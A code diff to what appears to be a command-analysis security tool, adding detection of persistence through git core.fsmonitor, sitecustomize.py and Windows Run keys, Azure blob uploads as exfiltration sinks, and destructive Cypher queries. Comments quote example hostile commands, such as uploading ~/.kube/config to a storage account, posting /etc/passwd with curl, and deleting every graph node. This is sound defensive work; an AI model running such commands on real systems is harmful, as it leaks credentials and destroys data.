@@ -821,13 +821,16 @@ class Analyser:
             elif len(w.positional) > key_at:  # `defaults write DOMAIN KEY -int 0`
                 key = w.argv[1 + w.positional[key_at]]
                 self.setting(key, w.argv[1 + w.positional[value_at]])
-        if (
-            prog == "git"
-            and len(w.positional) >= 3
-            and w.low[w.positional[0]] == "config"
-            and w.low[w.positional[1]] == "core.hookspath"
-        ):  # Git's hooks come from that folder from now on
-            self.hook_dirs.append(normalize_path(w.argv[1 + w.positional[2]]))
+        if prog == "git" and len(w.positional) >= 3 and w.low[w.positional[0]] == "config":
+            key = w.low[w.positional[1]]
+            value = w.argv[1 + w.positional[2]]
+            if key == "core.hookspath":  # Git's hooks come from that folder from now on
+                self.hook_dirs.append(normalize_path(value))
+            elif any(fnmatch.fnmatchcase(key, g) for g in self.table.git_run_settings):
+                # `git config core.fsmonitor "…"`: run by Git on every `status` from now on
+                what = describe("sets a command Git runs later", "", False, w.text)
+                self.out.add(Effect("persist", "", what))
+                self.shell(value.lstrip("!"), strict=False, depth=depth + 1)
         if prog in _DECLARERS:
             for a in w.argv[1:9]:  # `export PROMPT_COMMAND='…'`: run before every prompt
                 name, eq, value = a.partition("=")
@@ -1274,6 +1277,8 @@ class Analyser:
                 for a in argv[2:]:
                     if " " in a and _sql_first(a) and sqlx.looks_like_sql(a):
                         self.sql(a, strict=False, temp=scratch)
+                    elif " " in a and "(" in a and sqlx.looks_like_cypher(a):
+                        self._cypher(a)  # `cypher-shell -a bolt://… "MATCH (n) DETACH DELETE n"`
         fed = c.heredoc or piped
         if fed and prog not in ("redis-cli", "valkey-cli"):
             if prog in ("mongo", "mongosh"):
@@ -1487,7 +1492,9 @@ class Analyser:
                     describe("installs a command that runs again later in", "", False, text),
                 )
             )
-            if content:
+            if content and p.endswith(".py"):
+                self.snippet(content, "code")  # `sitecustomize.py`: Python runs it at start
+            elif content:
                 for body in _persisted_commands(p, content):
                     self.shell(body, strict=False, depth=depth + 1)
                 if p.endswith("ld.so.preload"):
@@ -1745,6 +1752,13 @@ class Analyser:
             # `aws s3 cp SRC s3://bucket/`: a storage account whose owner the call cannot show,
             # as an rclone remote
             j.sinks.append(Sink(pos[-1], pos[:-1], False, w.text, argv, True))
+        elif prog == "az" and [a.lower() for a in argv[1:4]] in _AZ_UPLOADS:
+            # `az storage blob upload --account-name x --file ~/.kube/config`: a storage account
+            # whose owner the call cannot show, as a bucket
+            uploaded = _value_after(argv, ("--file", "-f", "--source", "-s"))
+            account = _value_after(argv, ("--account-name",)) or "storage"
+            dest = f"https://{account}.blob.core.windows.net"
+            j.sinks.append(Sink(dest, [uploaded] if uploaded else [], False, w.text, argv, True))
         elif prog in _COPY_SINKS and len(pos) >= 2:
             dest = pos[-1]
             m = _REMOTE_HOST.match(dest)
@@ -1966,8 +1980,12 @@ class Analyser:
         what = upstream_source
         if not what:
             for f in sink.files:
-                if self.table.is_credential(f) or normalize_path(f) in self.tainted:
+                p = normalize_path(f)
+                if self.table.is_credential(f) or p in self.tainted:
                     what = f
+                    break
+                if p in self.table.paths.account_files and dest_class != "known":
+                    what = f  # `curl -F f=@/etc/passwd http://…`: who has an account here
                     break
         if not what:
             what = self._secret_carried(sink)
@@ -3564,6 +3582,8 @@ def strip_wrappers(t: EffectTable, argv: list[str]) -> tuple[int, str]:
     return i, escalated
 
 
+_AZ_UPLOADS = (["storage", "blob", "upload"], ["storage", "blob", "upload-batch"],
+               ["storage", "file", "upload"])  # fmt: skip
 _TYPED_ENTER = re.compile(r"(?:\\[nr]|\^M)+\s*$")
 _SUBST_EVAL = frozenset(
     {"dirname", "basename", "realpath", "readlink", "echo", "printf", "pwd", "ls", "find"}
@@ -3876,6 +3896,10 @@ def _installed_command(prog: str, argv: list[str]) -> str:
 
     if prog == "reg" and "add" in low:
         return after("/d")
+    if prog in ("new-itemproperty", "set-itemproperty", "sp") and any(
+        "currentversion\\run" in a for a in low
+    ):
+        return after("-value")  # a Run key's value: run at every logon
     if prog == "schtasks":
         return after("/tr")
     if prog in ("new-scheduledtaskaction",):
